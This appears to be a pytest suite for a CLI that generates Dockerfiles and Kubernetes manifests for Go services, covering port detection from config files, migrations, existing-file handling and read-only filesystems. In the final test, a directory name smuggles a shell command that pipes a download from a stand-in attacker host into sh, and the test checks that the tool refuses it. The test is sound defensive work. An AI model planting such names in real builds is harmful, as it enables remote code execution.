"""``init`` on real layouts: ports from configuration files and frameworks, every
listener named by protocol, configuration and migrations shipped, nothing written
beside a file the repository has under another name, ``--port`` and ``--all``."""

from __future__ import annotations

from pathlib import Path

import yaml
from test_init_cli import run, write_tree

KRATOS = {
    "go.mod": "module example.com/greeter\n\ngo 1.22\n\nrequire github.com/go-kratos/kratos/v2 v2.8.0\n",
    "configs/config.yaml": (
        "server:\n  http:\n    addr: 0.0.0.0:8000\n    timeout: 1s\n"
        "  grpc:\n    addr: 0.0.0.0:9000\n    timeout: 1s\n"
        "data:\n  redis:\n    addr: 127.0.0.1:6379\n"
    ),
    "cmd/greeter/main.go": """package main

import (
	"flag"

	"example.com/greeter/internal/server"
)

var flagconf string

func init() {
	flag.StringVar(&flagconf, "conf", "../../configs", "config path")
}

func main() {
	flag.Parse()
	c := server.Load(flagconf)
	server.Run(c)
}
""",
    "internal/server/http.go": """package server

import (
	"github.com/go-kratos/kratos/v2/transport/http"
)

func NewHTTPServer(c *Server) *http.Server {
	var opts []http.ServerOption
	if c.Http.Addr != "" {
		opts = append(opts, http.Address(c.Http.Addr))
	}
	return http.NewServer(opts...)
}
""",
    "internal/server/grpc.go": """package server

import (
	"github.com/go-kratos/kratos/v2/transport/grpc"
)

func NewGRPCServer(c *Server) *grpc.Server {
	var opts []grpc.ServerOption
	if c.Grpc.Addr != "" {
		opts = append(opts, grpc.Address(c.Grpc.Addr))
	}
	return grpc.NewServer(opts...)
}
""",
}


def _dry(root: Path, *args: str) -> tuple[int, str, str]:
    r = run(str(root), "--dry-run", *args)
    return r.exit_code, r.stdout, r.stderr


def _doc(out: str, name: str) -> str:
    start = out.index(f"/{name} (")
    body = out[out.index("\n", start) + 1 :]
    end = body.find("\n==> ")
    return body if end < 0 else body[:end]


def test_ports_from_the_config_file_named_by_protocol(tmp_path: Path) -> None:
    root = write_tree(tmp_path / "greeter", KRATOS)
    code, out, err = _dry(root)
    assert code == 0, err
    dockerfile = _doc(out, "Dockerfile")
    assert "EXPOSE 8000 9000" in dockerfile
    # the code reads ../../configs from cmd/greeter: /configs from the image's WORKDIR /
    assert "COPY configs /configs" in dockerfile
    docs = list(yaml.safe_load_all(_doc(out, "k8s/greeter.yaml")))
    deploy = next(d for d in docs if d and d["kind"] == "Deployment")
    svc = next(d for d in docs if d and d["kind"] == "Service")
    ports = deploy["spec"]["template"]["spec"]["containers"][0]["ports"]
    assert ports == [
        {"name": "http", "containerPort": 8000},
        {"name": "grpc", "containerPort": 9000},
    ]
    assert [p["name"] for p in svc["spec"]["ports"]] == ["http", "grpc"]


GIN_INI = {
    "go.mod": "module example.com/blog\n\ngo 1.22\n",
    "conf/app.ini": "[app]\nPageSize = 10\n\n[server]\nRunMode = release\nHttpPort = 8000\n",
    "pkg/setting/setting.go": """package setting

import "gopkg.in/ini.v1"

type Server struct {
	HttpPort int
}

var ServerSetting = &Server{}

func Setup() {
	cfg, err := ini.Load("conf/app.ini")
	if err != nil {
		panic(err)
	}
	_ = cfg.Section("server").MapTo(ServerSetting)
}
""",
    "main.go": """package main

import (
	"fmt"
	"net/http"

	"example.com/blog/pkg/setting"
)

func main() {
	setting.Setup()
	mux := http.NewServeMux()
	mux.HandleFunc("GET /healthz", func(w http.ResponseWriter, r *http.Request) {})
	srv := &http.Server{Addr: fmt.Sprintf(":%d", setting.ServerSetting.HttpPort), Handler: mux}
	_ = srv.ListenAndServe()
}
""",
}


def test_port_from_an_ini_file(tmp_path: Path) -> None:
    root = write_tree(tmp_path / "blog", GIN_INI)
    code, out, err = _dry(root, "--dockerfile")
    assert code == 0, err
    dockerfile = _doc(out, "Dockerfile")
    assert "EXPOSE 8000\n" in dockerfile
    assert "COPY conf/app.ini /conf/app.ini" in dockerfile
    assert "cannot be read" not in err


def test_files_that_disagree_take_the_production_value_and_warn(tmp_path: Path) -> None:
    files = dict(GIN_INI)
    del files["conf/app.ini"]
    files["pkg/setting/setting.go"] = (
        files["pkg/setting/setting.go"]
        .replace(
            'ini.Load("conf/app.ini")', 'ini.Load("conf/" + os.Getenv("APP_ENV") + "/app.ini")'
        )
        .replace('import "gopkg.in/ini.v1"', 'import (\n\t"os"\n\n\t"gopkg.in/ini.v1"\n)')
    )
    files["conf/dev/app.ini"] = "[server]\nHttpPort = 8081\n"
    files["conf/online/app.ini"] = "[server]\nHttpPort = 80\n"
    root = write_tree(tmp_path / "blog", files)
    code, out, err = _dry(root, "--dockerfile")
    assert code == 0, err
    assert "EXPOSE 80\n" in _doc(out, "Dockerfile")
    assert "conf/online/app.ini" in err and "'8081' in conf/dev/app.ini" in err


UNKNOWN_PORT = {
    "go.mod": "module example.com/api\n\ngo 1.22\n",
    "main.go": """package main

import "net/http"

type config struct{ listen string }

func load() config { return config{} }

func main() {
	cfg := load()
	srv := &http.Server{Addr: cfg.listen}
	_ = srv.ListenAndServe()
}
""",
}


def test_a_port_init_would_guess_needs_port(tmp_path: Path) -> None:
    root = write_tree(tmp_path / "api", UNKNOWN_PORT)
    r = run(str(root))
    assert r.exit_code == 2
    assert "--port" in r.stderr and "cfg.listen" in r.stderr and "main.go:1" in r.stderr
    assert not (root / "Dockerfile").exists()
    code, out, err = _dry(root, "--port", "9000")
    assert code == 0, err
    assert "EXPOSE 9000\n" in _doc(out, "Dockerfile")
    deploy = next(
        d for d in yaml.safe_load_all(_doc(out, "k8s/api.yaml")) if d["kind"] == "Deployment"
    )
    assert deploy["spec"]["template"]["spec"]["containers"][0]["ports"] == [
        {"name": "http", "containerPort": 9000}
    ]


MIGRATE = {
    "go.mod": "module example.com/shop\n\ngo 1.22\n",
    "cmd/app/main.go": """package main

import "example.com/shop/internal/app"

func main() { app.Run() }
""",
    "internal/app/app.go": """package app

import "net/http"

func Run() {
	http.HandleFunc("/healthz", func(w http.ResponseWriter, r *http.Request) {})
	_ = http.ListenAndServe(":8080", nil)
}
""",
    "internal/app/migrate.go": """//go:build migrate

package app

import (
	"github.com/golang-migrate/migrate/v4"
	_ "github.com/golang-migrate/migrate/v4/source/file"
)

func init() {
	m, err := migrate.New("file://migrations", "postgres://db/shop")
	if err != nil {
		panic(err)
	}
	_ = m.Up()
}
""",
    "migrations/000001_init.up.sql": "CREATE TABLE item (id int);\n",
}


def test_the_migration_step_is_built_and_shipped(tmp_path: Path) -> None:
    root = write_tree(tmp_path / "shop", MIGRATE)
    code, out, err = _dry(root, "--dockerfile")
    assert code == 0, err
    dockerfile = _doc(out, "Dockerfile")
    assert "go build -tags migrate " in dockerfile
    assert "COPY migrations /migrations" in dockerfile


COUNTER = {
    "go.mod": "module example.com/counter\n\ngo 1.22\n",
    "main.go": """package main

import "net/http"

func main() {
	http.HandleFunc("/healthz", func(w http.ResponseWriter, r *http.Request) {})
	_ = http.ListenAndServe(":8080", nil)
}
""",
    "docker/Dockerfile-counter": (
        "FROM golang:1.22 AS build\nWORKDIR /src\nCOPY . .\nRUN go build -o /counter .\n"
        "FROM gcr.io/distroless/static-debian12:nonroot\nCOPY --from=build /counter /counter\n"
        'ENTRYPOINT ["/counter"]\n'
    ),
    "docker-compose.yml": (
        "services:\n  counter:\n    build:\n      context: .\n"
        "      dockerfile: docker/Dockerfile-counter\n    ports: ['8080:8080']\n"
    ),
}


def test_nothing_is_written_beside_existing_files(tmp_path: Path) -> None:
    root = write_tree(tmp_path / "counter", COUNTER)
    r = run(str(root), "--dockerfile", "--compose")
    assert r.exit_code == 0, r.output
    assert not (root / "Dockerfile").exists() and not (root / "compose.yaml").exists()
    assert "already has a Dockerfile (docker/Dockerfile-counter)" in r.stderr
    assert "already has a compose file (docker-compose.yml)" in r.stderr
    forced = run(str(root), "--dockerfile", "--force")
    assert forced.exit_code == 0, forced.output
    assert (root / "Dockerfile").exists()


def test_all_generates_every_service(tmp_path: Path) -> None:
    root = tmp_path / "mono"
    write_tree(root / "counter", {k: v for k, v in COUNTER.items() if "ocker" not in k})
    write_tree(root / "blog", GIN_INI)
    write_tree(root / "api", UNKNOWN_PORT)
    r = run(str(root), "--all", "--dockerfile")
    assert r.exit_code == 2  # api's port is not known: not generated, and said so
    assert (root / "counter" / "Dockerfile").exists() and (root / "blog" / "Dockerfile").exists()
    assert not (root / "api" / "Dockerfile").exists()
    assert "api: " in r.stderr and "--port" in r.stderr
    assert run(str(root), "--all", "--service", "api").exit_code == 2


RUNTIME_DIRS = dict(GIN_INI)
RUNTIME_DIRS["conf/app.ini"] = (
    "[app]\nRuntimeRootPath = runtime/\nLogSavePath = logs/\n\n[server]\nHttpPort = 8000\n"
)
RUNTIME_DIRS["pkg/logging/file.go"] = """package logging

import (
	"fmt"
	"log"
	"os"

	"example.com/blog/pkg/setting"
)

func Setup() {
	dir := fmt.Sprintf("%s%s", setting.AppSetting.RuntimeRootPath, setting.AppSetting.LogSavePath)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		log.Fatalf("logging: %v", err)
	}
}
"""
RUNTIME_DIRS["pkg/setting/setting.go"] = GIN_INI["pkg/setting/setting.go"].replace(
    "var ServerSetting = &Server{}",
    "var ServerSetting = &Server{}\n\ntype App struct {\n\tRuntimeRootPath string\n"
    "\tLogSavePath     string\n}\n\nvar AppSetting = &App{}",
)
RUNTIME_DIRS["main.go"] = (
    GIN_INI["main.go"]
    .replace("\tsetting.Setup()\n", "\tsetting.Setup()\n\tlogging.Setup()\n")
    .replace(
        '"example.com/blog/pkg/setting"',
        '"example.com/blog/pkg/logging"\n\t"example.com/blog/pkg/setting"',
    )
)


def test_a_directory_the_app_creates_from_its_config_is_writable(tmp_path: Path) -> None:
    # runtime/logs comes from conf/app.ini: a read-only root needs a volume there
    root = write_tree(tmp_path / "blog", RUNTIME_DIRS)
    code, out, err = _dry(root, "--k8s")
    assert code == 0, err
    deploy = next(
        d for d in yaml.safe_load_all(_doc(out, "k8s/blog.yaml")) if d["kind"] == "Deployment"
    )
    c = deploy["spec"]["template"]["spec"]["containers"][0]
    assert c["securityContext"]["readOnlyRootFilesystem"] is True
    assert "/runtime/logs" in {m["mountPath"] for m in c["volumeMounts"]}


def test_directory_names_a_shell_would_read_are_refused(tmp_path: Path) -> None:
    """A main package in ``cmd/x;curl evil|sh;``, ``cmd/$(id)`` or ``cmd/my app``
    would end up in the Dockerfile's shell-form RUN: init refuses, and writes nothing."""
    for i, name in enumerate(("x;curl evil.example|sh;", "$(id)", "my app")):
        root = write_tree(
            tmp_path / f"svc{i}",
            {
                "go.mod": "module example.com/inj\n\ngo 1.22\n",
                f"cmd/{name}/main.go": 'package main\n\nimport "net/http"\n\n'
                'func main() { _ = http.ListenAndServe(":8080", nil) }\n',
            },
        )
        r = run(str(root))
        assert r.exit_code == 2, r.output
        assert "cannot be written into a Dockerfile safely" in r.stderr
        assert not (root / "Dockerfile").exists()
